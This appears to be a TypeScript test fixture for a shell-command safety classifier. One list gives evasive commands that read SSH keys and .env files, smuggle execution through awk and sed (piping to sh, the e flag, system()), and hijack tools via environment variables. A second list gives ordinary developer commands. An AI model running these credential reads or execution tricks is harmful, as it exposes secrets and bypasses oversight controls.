pdftotext a b
pandoc x -o y
pandoc --filter ./x y
pandoc --lua-filter=x y
latex x
dot -Tpng -ox y
gnuplot x
sox a b
dvips x
m4 x
bc x
bc <<< 'x'
dc -e '!id'
dc x
expr "$(./x)"
ed x
ex -sc '!id' x
units -f x
look x f > y
cal > x
crontab x
at -l
at now -f x
systemctl status --host=h x
systemctl list-units -H h
loginctl x
busctl call x
dbus-send x
gsettings set a b
dconf dump /
defaults read
xdg-open x
open x
code --list-extensions
code x
pbpaste
xclip -o
wl-paste
security find-generic-password -w
secret-tool lookup a b
pass show x
op read x
keyctl print 1
lpr x
mail -s x y < z
logger x
wall x
write u
kill 1
pkill x
fuser -k 80/tcp
renice 5 1
ulimit -n 5; ./x
umask 0; ls > x
mkfifo x
mknod x p
touch x
mkdir x
ln -s a b
cp a b
mv a b
install a b
truncate -s0 x
dd if=a of=b
rm x
rmdir x
unlink x
chmod +x x
chown u x
chgrp g x
chattr +i x
setfacl -m x y
patch < x
ctags -R
gzip x
gunzip x
bzip2 x
xz x
zstd x
7z x a
cpio -i < x
pax -r < x
ar x a
iconv -o x y
iconv --output=x y
fmt x > y
tput -T../x cols
tic x
infocmp -A. x
locale-gen
localedef x
updatedb
apropos -C ./x y
whatis --config-file=x y
which ls > x
type ls > x
du --files0-from=x > y
df > x
stat x > y
nproc > x
uptime > x
seq 1 10 > x
yes > x
GETCONF_DIR=. getconf -v POSIX_V6_ILP32_OFF32 ARG_MAX
LESSKEYIN=./x less f
LESSKEY=./x less f
LESS='+!id' less f
GIT_PROXY_COMMAND=./x git status
GIT_ASKPASS=./x git status
POSIXLY_CORRECT=1 sort f -o x
TZ=../../x date
TZ=:/home/u/.ssh/id_rsa date
NLSPATH=./x ls
LANGUAGE=../../x ls
TMPDIR=./x sort f
BAT_CONFIG_PATH=./x bat f
BAT_CONFIG_DIR=./x bat f
FD_OPTS=x fd a
EZA_CONFIG_DIR=. eza
JQ_LIBRARY_PATH=. jq . f
JQ_COLORS=x jq . f
PIP_CONFIG_FILE=./x pip list
PIP_INDEX_URL=x pip list
VIRTUAL_ENV=. pip list
PYTHONHOME=. pip list
GEM_HOME=. gem list
RUBYLIB=. gem list
DOCKER_CONFIG=. docker ps
DOCKER_CONTEXT=x docker ps
CONTAINERS_CONF=. podman ps
CONTAINER_HOST=ssh://x podman ps
GNUPGHOME=. gpg --list-keys
OPENSSL_CONF=./x openssl version
OPENSSL_MODULES=. openssl list
SSH_AUTH_SOCK=./x ssh-add -l
SSH_SK_PROVIDER=./x.so ssh-add -l
CONDARC=./x conda list
SHELLCHECK_OPTS='-x' shellcheck a
HADOLINT_CONFIG=x hadolint Dockerfile
YAMLLINT_CONFIG_FILE=x yamllint a
TMUX_TMPDIR=. tmux ls
SCREENDIR=. screen -ls
SYSTEMD_PAGER=./x systemctl status
SYSTEMD_LESS='+!id' journalctl
PAGER=./x journalctl
MANPATH=. man ls
MANROFFOPT=x man ls
GROFF_COMMAND_PREFIX=./ man ls
LOCATE_PATH=. locate x
DPKG_ROOT=. dpkg -l
APT_CONFIG=./x apt list
RPM_CONFIGDIR=. rpm -qa
ZIPINFO=-x zipinfo a
UNZIP=-o unzip -l a
GZIP=-9 gzip -l a
ZSTD_CLEVEL=1 zstd -l a
XZ_DEFAULTS=-d xz -l a
TAR_OPTIONS=x tar tf a
COLORDIFF=x colordiff a b
DIFF_OPTIONS=x diff a b
AWKPATH=. awk '{print}' f
AWKLIBPATH=. gawk '{print}' f
GAWK_READ_TIMEOUT=1 gawk '{print}' f
GCONV_PATH=. cat f
MALLOC_TRACE=x ls
LD_DEBUG_OUTPUT=x LD_DEBUG=all ls
LD_PROFILE=x ls
GLIBC_TUNABLES=x ls
ASAN_OPTIONS=log_path=x ls
LLVM_PROFILE_FILE=x ls
GCOV_PREFIX=. ls
export JQ_LIBRARY_PATH=.; jq . f
read -r JQ_X <<< y; ls
lspci -M
readelf -w a
nm -l a
git -C .. status
git diff /home/u/.ssh/id_rsa /dev/null --no-index
git log -- .env
git show HEAD -- .env
git diff .env
cat "$HOME/.ssh/id_rsa"
cat ＄{HOME}/.ssh/id_rsa
cat ~u/.ssh/id_rsa
cat ~+/.env
cat $PWD/.env
cat $OLDPWD/.env
cat {.env,x}
cat .env{,.local}
head -c 20 .env*
cat *
tail -n +1 .[a-z]*
find . -name .env -print0 | xargs -0 cat
find . -type f | xargs cat
find . -type f | xargs grep x
ls -a | xargs cat
cat $(ls)
cat $(ls -a)
cat 0< .env
while read x; do echo "$x"; done < .env
mapfile -t a < .env; echo "＄{a[@]}"
read -r x < .env; echo $x
echo "$(< .env)"
printf '%s' "$(cat .env)"
cd ~/.ssh && cat id_rsa
cd ~/.ssh; head *
pushd ~/.aws; cat credentials
cat ~/.s*/id_rsa
cat /home/u/.ssh/../.ssh/id_rsa
cat //home//u/.ssh/id_rsa
cat /proc/self/root/home/u/.ssh/id_rsa
cat /dev/fd/3 3< .env
cat /dev/stdin < .env
diff .env .env.example
comm .env x
join .env .env
paste .env
fold .env
expand .env
strings .env
rev .env
cut -c1- .env
uniq .env
grep KEY .env
sed '' .env
jq -R . .env
yq . .env
column .env
pr .env
fmt .env
tr a a < .env
awk '$0 ~ 1 || /"/ { print | "sh" } #"' f
awk '1 && /"/ { system("sh") } #"' f
awk '{ x = a ~ /"/; print | "sh"; y = /"/ }' f
awk '/a\/"/ {print > "x"} /"/' f
awk '/[/"]/ {print > "x"} # "' f
awk 'BEGIN { a = "\\"; print | "sh" ; b = "\\" }'
awk '{ print a / "x" > "y" / 2 }' f
awk '{ print > $1 }' f
awk '{ print $1 > $2 }' f
awk '{ print >> "x" }' f
awk '{ printf("%s", $1) > "x" }' f
awk '{ print⏎> "x" }' f
awk '{ print \⏎ > "x" }' f
awk 'BEGIN{x="a"|getline}' 
awk '{ print "x" ||"sh" }' f
awk '{ print $1 |"sh" }' f
awk '{print|"sh"}' f
awk '{ a = 1 ; "id" |& getline }' f
awk -f f.awk f
awk 'BEGIN { printf "x" > "/dev/stderr" }'
awk '{ indirect = "system"; @indirect("x") }' f
awk '{ print length / 2 | "sh" }' f
awk '{ print length /2 | "sh" /1 }' f
awk '{ print (1) /2 | "sh" #/ }' f
awk 'BEGIN { while ((getline line < "/home/u/.ssh/id_rsa") > 0) print line }'
awk 1 ~/.ssh/id_rsa
awk '{print}' "x=$(cat y)"
sed 's/[/]/w x/' f
sed 's/[/]/e/' f
sed 's/a\/b/c/w x' f
sed 'y/abc/\/bc/;w x' f
sed -e 'a\' -e 'w x' f
sed -e 'a hello' -e 'w x' f
sed 'a\⏎w x' f
sed '/[/]/w x/p' f
sed '\,a,w x' f
sed '\;a;p;w x' f
sed ':a;w x' f
sed ':a w x⏎w y' f
sed '{p};w x' f
sed '{w x⏎}' f
sed '1~2w x' f
sed '$w x' f
sed '/a/I,+3w x' f
sed 's/a/b/I;e id' f
sed 'e' f
sed '1e' f
sed 's/x/id/e' f
sed 's/x/id/2e' f
sed 's/x/id/M e' f
sed 'b;w x' f
sed 't;W x' f
sed 'r /home/u/.ssh/id_rsa' f
sed 'R .env' f
sed 'F;z;w x' f
sed 'l 3;w x' f
sed 'q5;w x' f
sed 'i foo⏎w x' f
sed '#n⏎w x' f
sed 's/a/b/⏎w x' f
sed 'v 4.2;w x' f
sed 's/\n/a/w x' f
sed 's\a\b\w x' f
sed 's a b w x' f
sed '/a/!{p;w x⏎}' f
sed '/\//w x' f
sed 'y/\//a/;w x' f
sed 's/a/b/ ; w x' f
echo HEAD:.env | git cat-file --batch
git for-each-ref --format='%(signature)'
git branch --format='%(signature:grade)'
awk '1⏎1system("touch x")$1' f
awk '1getline' f
trap=(unalias )ENVˋtouch xˋ
a=(b)c$(touch x)
sed 'bd	W out' f
sed '://l W out' f
sed 't a w out' f
X=<(ls) touch x
`)

/** What people and agents look around with, all day long. */
export const ordinary = read(String.raw`
i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done
for ((i=0;i<3;i++)); do echo $i; done
n=$(wc -l < notes); echo $((n+1))
if [ $(ls | wc -l) -gt 3 ]; then echo many; fi
[[ $? -eq 0 ]] && echo ok
start=$(date +%s); ls; echo $(( $(date +%s) - start ))
ps -aux
ps -axo pid,command
ps -u ada -o pid,args
ps -eo pid,etime,rss,args --sort=-rss
ls
ls -la
ls -la src
ls -R
ls *.ts
ls -lh --color=auto
ls -1 | head -20
ls -t | head
ll=1; ls
pwd
cd src && ls
cd src; ls -la
cd .. && pwd
cat package.json
cat src/index.ts | head -50
cat -n file.ts
cat a b c
cat .env.example
cat .gitignore
cat README.md | grep -i install
head -20 file
head -n 20 file
head -c 100 file
tail -50 log.txt
tail -n +10 file
tail -f log
wc -l file
wc -l *.ts
find . -name '*.ts'
find . -type f -name '*.md' -not -path './node_modules/*'
find src -maxdepth 2 -type d
find . -name '*.ts' | head -20
find . -name '*.ts' | wc -l
find . -mtime -1 -size +10k
find . -type f -newer x
find . -name a -o -name b
find . -path ./node_modules -prune -o -name '*.js' -print
find . -empty
find . -printf '%p\n'
grep foo file
grep -rn foo src
grep -rn 'foo bar' src --include=*.ts
grep -rn "TODO" . --include='*.py' | head
grep -E 'a|b' file
grep -c foo file
grep -l foo *.ts
grep -v '^#' file
grep -A3 -B3 foo file
grep -i --color foo file
grep -rnw 'x' lib
grep -oP '\d+' file
egrep 'a|b' f
rg foo
rg -n foo src
rg -t ts foo
rg 'class \w+' --type py
rg -l foo | head
rg --files | head
rg --files -g '*.ts'
rg -C 3 foo src
rg -i foo -g '!node_modules'
fd foo
fd -e ts
fd -t f foo src
ag foo src
git status
git status -s
git status --short --branch
git status --porcelain
git status -uno
git log
git log --oneline
git log --oneline -10
git log -5
git log -n 5 --stat
git log --graph --oneline --all
git log -p -1
git log --since='2 days ago'
git log --author=x --oneline
git log --format='%h %s' -5
git log --pretty=oneline
git log main..HEAD
git log -- src/a.ts
git log --follow src/a.ts
git log -S foo --oneline
git log --name-only -3
git diff
git diff HEAD
git diff --stat
git diff --cached
git diff --staged
git diff main...HEAD
git diff HEAD~1
git diff --name-only
git diff --name-status main
git diff a b -- src
git diff --word-diff
git diff -w
git show
git show HEAD
git show HEAD --stat
git show HEAD:src/a.ts
git show abc123 --name-only
git branch
git branch -a
git branch -vv
git branch --show-current
git branch --list 'feature/*'
git branch -r
git branch --contains HEAD
git tag
git tag -l
git tag --list 'v*'
git remote
git remote -v
git remote get-url origin
git stash list
git stash show -p
git blame src/a.ts
git blame -L 1,10 src/a.ts
git rev-parse HEAD
git rev-parse --abbrev-ref HEAD
git rev-parse --show-toplevel
git rev-list --count HEAD
git ls-files
git ls-files src
git ls-files --others --exclude-standard
git ls-tree HEAD
git ls-tree -r HEAD --name-only
git cat-file -p HEAD
git describe --tags
git merge-base main HEAD
git reflog
git reflog -10
git shortlog -sn
git grep foo
git grep -n foo -- src
git config --get user.name
git config --get remote.origin.url
git check-ignore file
git worktree list
git for-each-ref --sort=-committerdate
git count-objects -vH
git name-rev HEAD
git diff --shortstat
git --no-pager log -3
git --no-pager diff
git status && git diff
git status; git log -1
git log --oneline | head -5
git diff | head -100
git diff --stat | tail -1
git log --oneline | wc -l
git show --stat HEAD | cat
echo hello
echo "hello world"
echo -n x
echo $HOME
echo $((1+2))
printf '%s\n' a b
true
:
sleep 1
date
date +%Y-%m-%d
date -u
whoami
id
uname -a
hostname
uptime
df -h
du -sh .
du -sh *
du -h --max-depth=1
free -h
ps aux
ps -ef
ps aux | grep node
ps -p 123 -o pid,cmd
ps -eo pid,comm --sort=-pcpu
pgrep -f node
top -b -n 1
lsof -nP -i :3000
[ "$(cat a)" ]
[ "$(cat a)" = x ]
[ -n "$(git status --porcelain)" ]
test "$(head -1 a)" != "$(head -1 b)"
[ $(wc -l < list) -gt 3 ]
printf '%s\n' "$(cat list)"
printf "found $(cat list)"
awk '$3 > 5 { print $1 }' data
awk '{ print ($1 > 5 ? "a" : "b") }' data
awk -F, 'NR > 1 { n[$2] += $3 } END { for (k in n) print k, n[k] / NR }' data
awk '/^#/ { next } { print $1 "/" $2 }' data
awk '{ if ($1 ~ /a\/b/) print; else printf "%s|%d\n", $1, NF }' data
sed 's/[^]/]*//' data
sed -e 'i\⏎text' data
ss -tlnp
ss -tln 'sport = :8080'
ss -tn state established
netstat -an
which node
which python3 node
type ls
command -v node
node --version
node -v
npm --version
npm -v
python --version
python3 --version
python3 -V
ruby -v
java -version
gcc --version
make --version
git --version
docker --version
bash --version
pip show requests
pip list --disable-pip-version-check
pip show requests
docker ps
docker ps -a
docker images
docker logs web --tail 50
docker logs -f web
stat file
file image.png
file *
basename a/b
dirname a/b
realpath .
readlink -f x
tree
tree -L 2
tree -I node_modules
sort file
sort -u file
sort -k2 -n file
sort file | uniq -c | sort -rn
uniq file
cut -d: -f1 file
cut -c1-10 file
tr a-z A-Z < file
diff a b
diff -u a b
diff -r a b
cmp a b
comm -12 a b
md5sum file
sha256sum file
sha256sum *.tgz
xxd file | head
od -c file
hexdump -C file | head
strings bin | head
nl file
tac file
rev file
column -t file
fold -w 80 file
paste a b
join a b
jq . package.json
jq '.scripts' package.json
jq -r '.version' package.json
cat package.json | jq '.dependencies | keys'
yq .a f.yaml
sed -n '1,20p' file
sed -n 5p file
sed 's/a/b/' file
sed -e 's/a/b/g' file
sed -E 's/(a)/b/' file | head
awk '{print $1}' file
awk -F, '{print $2}' f.csv
awk 'NR==5' file
awk '/foo/ {print $2}' file
awk '/a|b/' file
awk '{s+=$1} END {print s}' file
awk 'length > 80' file
less file
man ls
tar tf a.tar
tar -tzf a.tgz
unzip -l a.zip
zcat a.gz | head
gzip -l a.gz
base64 file.png
echo aGk= | base64 -d
test -f a && echo yes
[ -d src ] && ls src
[[ -f a ]] && cat a
if [ -f a ]; then cat a; fi
for f in a b c; do echo $f; done
for f in *.ts; do wc -l "$f"; done
for i in 1 2 3; do echo $i; done
while read l; do echo x; done < file
ls 2>/dev/null
ls > /dev/null 2>&1
cat file 2>/dev/null || echo none
ls -la; pwd; whoami
(cd src && ls)
{ ls; pwd; }
cat <<'EOF'⏎hi⏎EOF
cat a.ts b.ts | wc -l
timeout 10 ls
time ls
nice ls
env LANG=C ls
LC_ALL=C sort file
TZ=UTC date
NO_COLOR=1 ls
bash -c 'ls | wc -l'
sh -c 'cat a'
x=1; echo $x
x=$(ls); echo done
echo "$(git rev-parse HEAD)"
echo "$(pwd)"
git log -1 --format=%H
git status --help
docker ps --help
kubectl delete pod --help
ls --help
rm --version
rm --help
grep --help
git push --help
systemctl status nginx
journalctl -u nginx -n 50
dmesg | tail
crontab -l
lsblk
lscpu
ip a
ip addr show
ifconfig
mount
apt list --installed
dpkg -l | grep foo
brew list
printenv PATH
printenv HOME
shellcheck x.sh
tokei
openssl x509 -in cert.crt -noout -text
openssl version
ssh-add -l
gpg --list-keys
tmux ls
echo $?
echo "exit: $?"
ls; echo "done $?"
bash -n script.sh
bash --version
git for-each-ref --format='%(refname)' refs/heads
`)

function read(table: string): string[] {
  const signs: Record<string, string> = { '⏎': '\n', '␀': '\0', '‹bidi›': '\u202e', ˋ: '\x60', '＄{': '\x24{' }
  return table
    .trim()
    .split('\n')
    .map((line) => line.replace(/⏎|␀|‹bidi›|ˋ|＄\{/g, (sign) => signs[sign] ?? sign))
}
